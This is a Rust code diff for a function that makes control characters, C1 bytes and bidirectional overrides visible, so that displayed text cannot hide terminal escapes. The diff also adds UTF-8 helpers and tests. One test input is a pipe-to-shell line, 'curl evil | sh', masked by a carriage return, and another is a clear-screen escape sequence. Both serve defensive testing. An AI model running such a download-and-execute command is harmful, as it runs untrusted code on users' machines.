@@ -15,9 +15,9 @@ pub fn shell_quote(path: &std::path::Path) -> String {
 }
 
 /// `text` with its control characters visible: C0 controls as `^X` (but tab, newline and a carriage
-/// return before a newline when `lines` keeps them), DEL as `^?`, and C1 controls (U+0080 to U+009F, two bytes in
-/// UTF-8) as `M-^X`; in a name, bidirectional overrides as `<U+202E>`. Nothing else changes, so
-/// text in any language reads as it was written.
+/// return before a newline when `lines` keeps them), DEL as `^?`, and C1 controls (U+0080 to
+/// U+009F, two bytes in UTF-8, or one byte of no character) as `M-^X`; in a name, bidirectional
+/// overrides as `<U+202E>`. Nothing else changes, so text in any language reads as it was written.
 pub fn visible(text: &[u8], lines: Lines) -> Vec<u8> {
     let mut out = Vec::with_capacity(text.len());
     let mut i = 0;
@@ -41,11 +41,53 @@ pub fn visible(text: &[u8], lines: Lines) -> Vec<u8> {
                 out.extend_from_slice(format!("<U+{:04X}>", 0x2000 + c).as_bytes());
                 i += 2;
             }
+            // A whole character of several bytes, as it is (its continuation bytes may lie in
+            // 0x80-0x9F: `日` is E6 97 A5).
+            0xc3..=0xf4 if sequence(&text[i..]) > 1 => {
+                let n = sequence(&text[i..]);
+                out.extend_from_slice(&text[i..i + n]);
+                i += n - 1;
+            }
+            // A byte of no character: an eight-bit C1 control (`\x9b` is CSI to a terminal that
+            // takes them) is shown as the two-byte one is.
+            0x80..=0x9f => out.extend_from_slice(&[b'M', b'-', b'^', b - 0x40]),
             _ => out.push(b),
         }
         i += 1;
     }
     out
+}
+
+/// How many bytes the UTF-8 character `at` starts with has, when they are all there and valid
+/// (0 otherwise).
+fn sequence(at: &[u8]) -> usize {
+    let n = match at.first() {
+        Some(0xc2..=0xdf) => 2,
+        Some(0xe0..=0xef) => 3,
+        Some(0xf0..=0xf4) => 4,
+        _ => return 0,
+    };
+    match at.get(..n).map(std::str::from_utf8) {
+        Some(Ok(_)) => n,
+        _ => 0,
+    }
+}
+
+/// How many bytes at the end of `text` begin a UTF-8 character that is not all there yet: a
+/// stream's next piece completes it (held back by a writer escaping piece by piece).
+pub fn incomplete_tail(text: &[u8]) -> usize {
+    for back in 1..=3.min(text.len()) {
+        let b = text[text.len() - back];
+        let needs = match b {
+            0x80..=0xbf => continue,
+            0xc2..=0xdf => 2,
+            0xe0..=0xef => 3,
+            0xf0..=0xf4 => 4,
+            _ => return 0,
+        };
+        return if needs > back { back } else { 0 };
+    }
+    0
 }
 
 /// Whether `at` starts with a bidirectional override or isolate, in UTF-8.
@@ -85,6 +127,14 @@ mod tests {
             "notes-<U+202E>hs.txt<U+2066>"
         );
         assert_eq!(name("\u{2010}\u{202f}"), "\u{2010}\u{202f}");
+        assert_eq!(
+            visible(b"\x9b[2J \xe6\x97\xa5 \xe6\x97", Lines::Kept),
+            b"M-^[[2J \xe6\x97\xa5 \xe6M-^W".to_vec()
+        );
+        assert_eq!(incomplete_tail(b"a\xe6\x97"), 2);
+        assert_eq!(incomplete_tail(b"a\xc2"), 1);
+        assert_eq!(incomplete_tail("a\u{65e5}".as_bytes()), 0);
+        assert_eq!(incomplete_tail(b"a\x9b"), 0);
         assert_eq!(
             visible(b"curl evil | sh\rmake test\r\n", Lines::Kept),
             b"curl evil | sh^Mmake test\r\n".to_vec()
